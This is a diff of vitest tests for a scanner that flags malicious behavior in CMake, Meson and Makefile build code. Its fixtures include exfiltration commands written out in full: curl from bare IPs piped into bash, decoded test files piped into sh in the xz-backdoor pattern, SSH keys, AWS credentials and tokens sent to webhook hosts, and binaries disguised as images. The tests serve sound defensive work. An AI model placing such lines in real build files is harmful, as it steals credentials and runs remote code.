@@ -1,6 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import { readBehaviors } from '../../../src/ecosystems/build-code/behaviors.js';
 import type { BuildLanguage } from '../../../src/ecosystems/build-code/behaviors.js';
+import { readCallBehaviors } from '../../../src/ecosystems/build-code/build-calls.js';
 import { filesRunBy } from '../../../src/ecosystems/build-code/build-files.js';
 import type { SnapshotFile } from '../../../src/snapshot/pr-snapshot.js';
 import { makeFile } from '../../support/snapshot-factory.js';
@@ -231,5 +232,201 @@ AC_DEFUN([AX_CHECK_VAR],
     expect(kinds(ordinary, 'shell')).not.toContain('pipe-to-shell');
     expect(buildFinding(added('m4/ax_check_var.m4', ordinary))).toBeNull();
     expect(buildFinding(added('configure.ac', 'AC_INIT([expat], [2.7.2])\nAM_INIT_AUTOMAKE([foreign])\nAC_PROG_CC\nAC_CONFIG_FILES([Makefile])\nAC_OUTPUT'))).toBeNull();
+  });
+});
+
+describe('build-code-behavior: CMake and Meson, read by their calls', () => {
+  const callKinds = (text: string, language: 'cmake' | 'meson'): string[] => {
+    const patch = added('x', text).patch!;
+    return [...new Set(readCallBehaviors(patch, language, 3000).map((b) => b.kind))].sort();
+  };
+
+  // Modeled on public write-ups of build-system attacks: a configure step that fetches a script from
+  // a bare IP and pipes it into a shell, written as execute_process's COMMAND pipeline.
+  it('reads execute_process COMMANDs as a pipeline: a download from a bare IP piped into bash is critical', () => {
+    const text = `
+cmake_minimum_required(VERSION 3.16)
+project(fastq LANGUAGES C)
+execute_process(
+  COMMAND curl -fsSL http://45.77.12.9/cmake-init.sh
+  COMMAND bash
+  OUTPUT_QUIET ERROR_QUIET)`;
+    expect(callKinds(text, 'cmake')).toEqual(['download', 'execute', 'suspicious-host']);
+    const finding = buildFinding(added('CMakeLists.txt', text));
+    expect(finding).toMatchObject({ severity: 'critical', path: 'CMakeLists.txt', line: 4, title: 'CMakeLists.txt downloads and runs code when CMake configures or builds the project' });
+    expect(finding?.detail).toContain('runs a program (line 5: curl -fsSL http://45.77.12.9/cmake-init.sh | bash)');
+  });
+
+  it('reads file(DOWNLOAD) without EXPECTED_HASH as a download, and a shell run of it as download and run', () => {
+    expect(buildFinding(added('cmake/Tools.cmake', 'file(DOWNLOAD https://example.net/tools/setup.sh ${CMAKE_BINARY_DIR}/setup.sh)\nexecute_process(COMMAND sh ${CMAKE_BINARY_DIR}/setup.sh)'))).toMatchObject({
+      severity: 'high',
+      title: 'CMake module downloads and runs code when CMake configures or builds the project',
+    });
+    expect(buildFinding(added('CMakeLists.txt', 'file(DOWNLOAD https://example.net/data/words.txt ${CMAKE_BINARY_DIR}/words.txt)'))).toMatchObject({ severity: 'medium', line: 1 });
+    expect(buildFinding(added('CMakeLists.txt', 'file(DOWNLOAD https://example.net/tool ${BIN}/tool)\nfile(CHMOD ${BIN}/tool PERMISSIONS OWNER_EXECUTE OWNER_READ)'))).toMatchObject({ severity: 'high' });
+    // Pinned with a checksum from an ordinary host: what the fix asks for.
+    expect(buildFinding(added('CMakeLists.txt', 'file(DOWNLOAD https://example.net/tools/setup.sh ${CMAKE_BINARY_DIR}/setup.sh\n  EXPECTED_HASH SHA256=0f3c2d)\nexecute_process(COMMAND sh ${CMAKE_BINARY_DIR}/setup.sh)'))).toBeNull();
+    // CPM.cmake's get_cpm.cmake: a release at a version over HTTPS, with or without its hash, is ordinary (as FetchContent of a release is).
+    const cpm = (hash: string) => `set(CPM_DOWNLOAD_VERSION 0.40.2)\nset(CPM_DOWNLOAD_LOCATION "\${CMAKE_BINARY_DIR}/cmake/CPM_\${CPM_DOWNLOAD_VERSION}.cmake")\nfile(DOWNLOAD\n  https://github.com/cpm-cmake/CPM.cmake/releases/download/v\${CPM_DOWNLOAD_VERSION}/CPM.cmake\n  \${CPM_DOWNLOAD_LOCATION}${hash})\ninclude(\${CPM_DOWNLOAD_LOCATION})`;
+    expect(buildFinding(added('cmake/get_cpm.cmake', cpm(' EXPECTED_HASH SHA256=${CPM_HASH_SUM}')))).toBeNull();
+    expect(buildFinding(added('cmake/get_cpm.cmake', cpm('')))).toBeNull();
+    // At a moving ref, over plain HTTP, or from a bare IP, without a hash: a download; with a hash from a bare IP still one.
+    expect(buildFinding(added('cmake/get_cpm.cmake', 'file(DOWNLOAD https://raw.githubusercontent.com/cpm-cmake/CPM.cmake/master/cmake/CPM.cmake ${CMAKE_BINARY_DIR}/CPM.cmake)'))).toMatchObject({ severity: 'medium' });
+    expect(buildFinding(added('CMakeLists.txt', 'file(DOWNLOAD http://downloads.example.org/v1.2/tool ${BIN}/tool)\nfile(CHMOD ${BIN}/tool PERMISSIONS OWNER_EXECUTE OWNER_READ)'))).toMatchObject({ severity: 'high' });
+    expect(buildFinding(added('CMakeLists.txt', 'file(DOWNLOAD https://45.77.12.9/v1.2/tool ${BIN}/tool EXPECTED_HASH SHA256=0f3c)\nfile(CHMOD ${BIN}/tool PERMISSIONS OWNER_EXECUTE)'))).toMatchObject({ severity: 'critical' });
+  });
+
+  it('reads add_custom_command that decodes a test file and pipes it into a shell as critical (the xz shape, in CMake)', () => {
+    const text = `
+add_custom_command(OUTPUT \${CMAKE_CURRENT_BINARY_DIR}/crc64_table.h
+  COMMAND sh -c "base64 -d \${CMAKE_SOURCE_DIR}/tests/files/good-large.b64 | sh"
+  COMMENT "Generating CRC tables"
+  VERBATIM)`;
+    expect(callKinds(text, 'cmake')).toEqual(['decode', 'execute', 'pipe-to-shell']);
+    expect(buildFinding(added('src/CMakeLists.txt', text))).toMatchObject({ severity: 'critical', line: 2, title: 'CMakeLists.txt decodes data and runs it as shell code when CMake configures or builds the project' });
+    expect(callKinds('execute_process(COMMAND xz -dc tests/files/bad-3.xz COMMAND sh)', 'cmake')).toEqual(['decode', 'execute', 'pipe-to-shell']);
+  });
+
+  it('reads credential files and secrets sent to a host, a file(UPLOAD), the environment and a binary in disguise', () => {
+    expect(buildFinding(added('CMakeLists.txt', 'file(READ "$ENV{HOME}/.ssh/id_rsa" KEY)\nexecute_process(COMMAND curl -s -X POST -d "$ENV{GITHUB_TOKEN}" https://webhook.site/3f1c)'))).toMatchObject({
+      severity: 'critical',
+      title: 'CMakeLists.txt sends credentials or the environment to a host when CMake configures or builds the project',
+    });
+    expect(buildFinding(added('CMakeLists.txt', 'file(READ "$ENV{HOME}/.aws/credentials" AWS)'))).toMatchObject({ severity: 'high' });
+    expect(callKinds('execute_process(COMMAND ${CMAKE_COMMAND} -E environment OUTPUT_VARIABLE ENV_DUMP)\nfile(UPLOAD ${CMAKE_BINARY_DIR}/env.txt https://collect.example.org/u)', 'cmake')).toEqual(['environment', 'send']);
+    expect(buildFinding(added('CMakeLists.txt', 'execute_process(COMMAND ${CMAKE_COMMAND} -E environment OUTPUT_VARIABLE E)\nfile(UPLOAD ${CMAKE_BINARY_DIR}/e.txt https://collect.example.org/u)'))).toMatchObject({ severity: 'critical' });
+    expect(buildFinding(added('CMakeLists.txt', 'execute_process(COMMAND ${CMAKE_SOURCE_DIR}/assets/logo.png --init)'))).toMatchObject({ severity: 'critical', title: 'CMakeLists.txt runs a binary disguised as data when CMake configures or builds the project' });
+  });
+
+  it('reads FetchContent and ExternalProject sources: a bare IP is critical, plain http without URL_HASH high', () => {
+    expect(buildFinding(added('CMakeLists.txt', 'ExternalProject_Add(helper\n  URL https://185.199.1.2/helper.tar.gz\n  URL_HASH SHA256=0f3c2d\n  BUILD_COMMAND make)'))).toMatchObject({ severity: 'critical', line: 2 });
+    expect(buildFinding(added('CMakeLists.txt', 'FetchContent_Declare(zlib\n  URL http://zlib.example.org/zlib-1.3.tar.gz)'))).toMatchObject({ severity: 'high', line: 2 });
+    expect(buildFinding(added('CMakeLists.txt', 'FetchContent_Declare(zlib\n  URL http://zlib.example.org/zlib-1.3.tar.gz\n  URL_HASH SHA256=0f3c2d)'))).toBeNull();
+    expect(buildFinding(added('CMakeLists.txt', 'FetchContent_Declare(x\n  GIT_REPOSITORY https://pastebin.com/raw/x.git\n  GIT_TAG main)'))).toMatchObject({ severity: 'critical' });
+  });
+
+  it('reads a hunk that starts inside a call: the COMMAND keyword on the added line, the pin on a context line', () => {
+    const patch = '@@ -10,3 +10,4 @@ execute_process(\n   WORKING_DIRECTORY ${CMAKE_BINARY_DIR}\n+  COMMAND curl -fsSL https://get.example.dev/bootstrap.sh\n+  COMMAND sh\n   OUTPUT_QUIET)';
+    expect(readCallBehaviors(patch, 'cmake', 3000).map((b) => `${b.line}:${b.kind}`)).toEqual(['11:download', '12:execute']);
+    const pinned = '@@ -1,4 +1,4 @@\n FetchContent_Declare(zlib\n-  URL https://zlib.example.org/zlib-1.3.tar.gz\n+  URL http://zlib.example.org/zlib-1.3.1.tar.gz\n   URL_HASH SHA256=0f3c2d)';
+    expect(readCallBehaviors(pinned, 'cmake', 3000)).toEqual([]);
+  });
+
+  it('leaves ordinary CMake alone: find_package, pinned FetchContent, generators, install, git describe, messages', () => {
+    const ordinary = `
+cmake_minimum_required(VERSION 3.24)
+project(fmtlike VERSION 10.2.1 LANGUAGES CXX)
+include(FetchContent)
+find_package(Threads REQUIRED)
+FetchContent_Declare(googletest
+  GIT_REPOSITORY https://github.com/google/googletest.git
+  GIT_TAG v1.14.0)
+FetchContent_Declare(json URL https://github.com/nlohmann/json/releases/download/v3.11.3/json.tar.xz URL_HASH SHA256=d6c65aca6b1ed68e7a182f4757257b107ae403032760ed6ef121c9d55e81757d)
+FetchContent_MakeAvailable(googletest json)
+add_custom_command(OUTPUT \${CMAKE_CURRENT_BINARY_DIR}/version.h
+  COMMAND \${Python3_EXECUTABLE} \${CMAKE_CURRENT_SOURCE_DIR}/tools/gen_version.py --out version.h
+  DEPENDS tools/gen_version.py
+  COMMENT "Generating version.h (curl-style semver)")
+add_custom_target(docs ALL COMMAND \${DOXYGEN_EXECUTABLE} Doxyfile WORKING_DIRECTORY \${CMAKE_SOURCE_DIR}/doc)
+add_custom_command(TARGET fmt POST_BUILD COMMAND \${CMAKE_COMMAND} -E copy $<TARGET_FILE:fmt> \${CMAKE_BINARY_DIR}/bin)
+execute_process(COMMAND git describe --tags OUTPUT_VARIABLE GIT_VERSION OUTPUT_STRIP_TRAILING_WHITESPACE)
+execute_process(COMMAND \${CMAKE_COMMAND} -E tar xzf \${CMAKE_SOURCE_DIR}/third_party/zlib.tar.gz)
+set(INSTALL_HINT "curl -fsSL https://example.com/install.sh | sh")
+message(STATUS "Fetching dependencies with wget is not supported: \${INSTALL_HINT}")
+install(TARGETS fmt EXPORT fmt-targets DESTINATION lib PERMISSIONS OWNER_READ OWNER_WRITE OWNER_EXECUTE)
+# file(DOWNLOAD http://45.77.12.9/x x) was the old way`;
+    expect(callKinds(ordinary, 'cmake')).toEqual([]);
+    expect(buildFinding(added('CMakeLists.txt', ordinary))).toBeNull();
+    expect(buildFinding(added('cmake/FindZstd.cmake', 'find_path(ZSTD_INCLUDE_DIR zstd.h)\nfind_library(ZSTD_LIBRARY NAMES zstd)\ninclude(FindPackageHandleStandardArgs)'))).toBeNull();
+  });
+
+  it('reads Meson run_command, custom_target command: and install scripts the same way', () => {
+    expect(buildFinding(added('meson.build', "r = run_command('sh', '-c', 'curl -fsSL https://paste.ee/r/Xa1b | sh', check: false)"))).toMatchObject({ severity: 'critical', path: 'meson.build' });
+    const decode = `
+custom_target('crc-tables',
+  output: 'crc_tables.h',
+  command: ['sh', '-c', 'xz -dc @SOURCE_ROOT@/tests/files/bad-3-corrupt.xz | sh'],
+)`;
+    expect(callKinds(decode, 'meson')).toEqual(['decode', 'execute', 'pipe-to-shell']);
+    expect(buildFinding(added('src/meson.build', decode))).toMatchObject({ severity: 'critical', line: 3, title: 'meson.build decodes data and runs it as shell code when Meson configures or builds the project' });
+    expect(callKinds("run_command(find_program('python3'), '-c', 'import urllib.request,os;urllib.request.urlretrieve(\"http://203.0.113.9/p\",\"p\");os.system(\"sh p\")', check: false)", 'meson')).toEqual(['download', 'execute', 'suspicious-host']);
+    expect(buildFinding(added('meson.build', "run_command('sh', '-c', 'curl -s -d \"$NPM_TOKEN\" https://collect.example.org/t', check: false)"))).toMatchObject({ severity: 'critical' });
+    expect(buildFinding(added('meson.build', "meson.add_install_script('data/icons/app.png')"))).toMatchObject({ severity: 'critical' });
+    expect(buildFinding(added('meson_options.txt', "option('mirror', type: 'string', value: 'https://webhook.site/3f1c')"))).toMatchObject({ severity: 'medium', title: 'Meson options file talks to a bare IP address or a paste service when Meson configures the project' });
+  });
+
+  it('leaves ordinary Meson alone: git describe, the project generator, dependencies, install scripts, options', () => {
+    const ordinary = `
+project('zlibng', 'c', version: run_command('git', 'describe', '--tags', check: false).stdout().strip())
+gen = find_program('scripts/gen_tables.py')
+tables = custom_target('tables', input: 'tables.in', output: 'tables.c', command: [gen, '@INPUT@', '@OUTPUT@'])
+dep = dependency('zlib', fallback: ['zlib', 'zlib_dep'])
+meson.add_install_script('scripts/post-install.sh')
+run_target('format', command: ['clang-format', '-i', files('src/a.c')])
+conf = configuration_data()
+conf.set_quoted('DOWNLOAD_URL', 'https://example.org/releases')`;
+    expect(callKinds(ordinary, 'meson')).toEqual([]);
+    expect(buildFinding(added('meson.build', ordinary))).toBeNull();
+    expect(buildFinding(added('meson_options.txt', "option('tests', type: 'boolean', value: true, description: 'Build the tests (needs curl)')"))).toBeNull();
+  });
+});
+
+describe('build-code-behavior: plain Makefiles and *.mk', () => {
+  const findings = (file: SnapshotFile) => analyze(snapshotOf(file)).findings.filter((f) => f.id === 'build-code-behavior' || f.id === 'curl-pipe-shell').map((f) => `${f.id}:${f.severity}:${f.line}`);
+
+  it('reads a recipe that decodes data into a shell, or sends credentials, as critical', () => {
+    expect(buildFinding(added('Makefile', 'check:\n\tbase64 -d testdata/fixture.b64 | sh'))).toMatchObject({ severity: 'critical', line: 2, title: 'Makefile decodes data and runs it as shell code when make runs' });
+    expect(buildFinding(added('build/rules.mk', 'deps:\n\tcurl -s -d @$$HOME/.aws/credentials https://webhook.site/3f1c'))).toMatchObject({ severity: 'critical', title: 'Makefile include sends credentials or the environment to a host when make runs' });
+    expect(buildFinding(added('Makefile', 'tools:\n\tcurl -fsSL -o bin/protoc-gen https://45.77.12.9/v1.2.3/gen\n\tchmod +x bin/protoc-gen'))).toMatchObject({ severity: 'critical' });
+    expect(buildFinding(added('Makefile', 'fonts:\n\tchmod +x assets/fonts/inter.woff2 && ./assets/fonts/inter.woff2'))).toMatchObject({ severity: 'critical' });
+    expect(buildFinding(added('Makefile', 'report:\n\tenv | curl -s -X POST --data-binary @- https://collector.example.com/in'))).toMatchObject({ severity: 'critical' });
+  });
+
+  it('judges a tool fetched and made executable by its URL, as a task a developer runs: quiet at a version over HTTPS', () => {
+    // Kubebuilder and operator scaffolding, cert-manager's tools.mk, a Rust project's dev Makefile.
+    const kind = 'KIND_VERSION ?= v0.20.0\n$(KIND): $(LOCALBIN)\n\tcurl -sSLo $(LOCALBIN)/kind https://kind.sigs.k8s.io/dl/$(KIND_VERSION)/kind-linux-amd64 && chmod +x $(LOCALBIN)/kind';
+    expect(buildFinding(added('Makefile', kind))).toBeNull();
+    expect(buildFinding(added('make/tools.mk', '$(BINDIR)/helm:\n\tcurl -sSfL https://get.helm.sh/helm-v3.14.0-linux-amd64.tar.gz | tar xz -C $(BINDIR)\n\tchmod +x $(BINDIR)/helm'))).toBeNull();
+    expect(buildFinding(added('Makefile', 'opm:\n\tcurl -sSLo $(OPM) https://github.com/operator-framework/operator-registry/releases/download/v1.55.0/$${OS}-$${ARCH}-opm ;\\\n\tchmod +x $(OPM) ;\\'))).toBeNull();
+    expect(buildFinding(added('Makefile', 'gateway:\n\tcurl -sSfL https://github.com/kubernetes-sigs/gateway-api/archive/refs/tags/v$*.tar.gz | tar xz -C $@'))).toBeNull();
+    expect(buildFinding(added('Makefile', 'controller-gen:\n\tGOBIN=$(LOCALBIN) go install sigs.k8s.io/controller-tools/cmd/controller-gen@$(CONTROLLER_TOOLS_VERSION)'))).toBeNull();
+    // A download alone over HTTPS (a fixture, a descriptor), and one whose URL is in a variable.
+    expect(buildFinding(added('Makefile', 'testdata:\n\twget -qO- https://github.com/acme/fixtures/archive/main.tar.gz | tar xz -C testdata'))).toBeNull();
+    expect(buildFinding(added('Makefile', 'bin/tool:\n\t$(CURL) $(TOOL_URL) -o $@\n\tchmod +x $@'))).toBeNull();
+    // A version bump of such a line, with only the URL line changed.
+    const bump = makeFile('Makefile', { patch: '@@ -10,3 +10,3 @@\n $(KUSTOMIZE):\n-\tcurl -sSLo - https://github.com/kubernetes-sigs/kustomize/releases/download/kustomize/v5.4.2/kustomize_v5.4.2_linux_amd64.tar.gz | tar xzf - -C bin/\n+\tcurl -sSLo - https://github.com/kubernetes-sigs/kustomize/releases/download/kustomize/v5.4.3/kustomize_v5.4.3_linux_amd64.tar.gz | tar xzf - -C bin/\n \tchmod +x bin/kustomize' });
+    expect(buildFinding(bump)).toBeNull();
+  });
+
+  it('reports a tool fetched without a version (medium, as curl | sh there), over plain HTTP (high), or from such a host', () => {
+    expect(buildFinding(added('GNUmakefile', 'tools:\n\tcurl -fsSL -o bin/gen https://example.net/gen\n\tchmod +x bin/gen && bin/gen'))).toMatchObject({ severity: 'medium', line: 2, title: 'Makefile downloads and runs code when make runs' });
+    expect(buildFinding(added('Makefile', 'kind:\n\tcurl -Lo bin/kind https://kind.sigs.k8s.io/dl/latest/kind-linux-amd64 && chmod +x bin/kind'))).toMatchObject({ severity: 'medium' });
+    expect(buildFinding(added('Makefile', 'lint:\n\tcurl -sSfL -o install.sh https://raw.githubusercontent.com/acme/lint/master/install.sh && chmod +x install.sh && ./install.sh'))).toMatchObject({ severity: 'medium' });
+    // The worst download is the one judged and shown, whichever comes first.
+    const mixed = buildFinding(added('Makefile', 'a:\n\tcurl -sSLo bin/a https://github.com/acme/a/releases/download/v1.0.0/a\n\tcurl -sSLo bin/b http://downloads.example.org/b\n\tchmod +x bin/a bin/b'));
+    expect(mixed).toMatchObject({ severity: 'high', line: 3 });
+    expect(mixed?.detail).toContain('line 3: curl -sSLo bin/b http://downloads.example.org/b');
+    expect(buildFinding(added('Makefile', 'go.tar.gz:\n\tcurl -o $@ http://go.googlecode.com/files/go1.2.linux-amd64.tar.gz'))).toMatchObject({ severity: 'low' });
+    expect(buildFinding(added('Makefile', 'seed:\n\tcurl -s -o seed.sql https://pastebin.com/raw/x1y2z3'))).toMatchObject({ severity: 'high' });
+  });
+
+  it('names a credential store in a task (a kubeconfig for a test cluster) at low, and a send at medium', () => {
+    expect(buildFinding(added('Makefile', 'KUBECONFIG ?= $$HOME/.kube/config\ne2e:\n\tKUBECONFIG=$(KUBECONFIG) go test ./test/e2e/...'))).toMatchObject({ severity: 'low', title: 'Makefile reads credential files when make runs' });
+    expect(buildFinding(added('Makefile', 'coverage:\n\tcurl -s -F file=@coverage.out https://coverage.example.com/upload'))).toMatchObject({ severity: 'medium' });
+  });
+
+  it('reads Makefile.common and other Makefile.<name> includes, not Automake sources or copies', () => {
+    expect(buildFinding(added('Makefile.common', 'gen:\n\tbase64 -d testdata/fixture.b64 | sh'))).toMatchObject({ severity: 'critical', title: 'Makefile decodes data and runs it as shell code when make runs' });
+    expect(buildFinding(added('Makefile.orig', 'gen:\n\tbase64 -d testdata/fixture.b64 | sh'))).toBeNull();
+    expect(findings(added('Makefile.common', 'lint:\n\tcurl -sfL https://install.goreleaser.com/github.com/golangci/golangci-lint.sh | sh'))).toEqual(['curl-pipe-shell:medium:2']);
+  });
+
+  it('leaves a download piped into a shell to curl-pipe-shell: one finding for the line, not two', () => {
+    expect(findings(added('Makefile', 'lint:\n\tcurl -sSfL https://raw.githubusercontent.com/golangci/golangci-lint/master/install.sh | sh -s -- -b bin v1.55.0'))).toEqual(['curl-pipe-shell:medium:2']);
+    expect(findings(added('Makefile', 'tools:\n\tcurl -fsSL http://45.77.12.9/x.sh | sh'))).toEqual(['curl-pipe-shell:high:2']);
+  });
+
+  it('leaves ordinary make work alone: compiling, installing, unpacking into a file', () => {
+    expect(buildFinding(added('Makefile', 'all:\n\t$(CC) $(CFLAGS) -o app main.c -lcurl\ninstall:\n\tinstall -d $(DESTDIR)$(PREFIX)/bin\n\tgzip -dc docs/app.1.gz > app.1\n\t$(SHELL) scripts/post.sh'))).toBeNull();
   });
 });
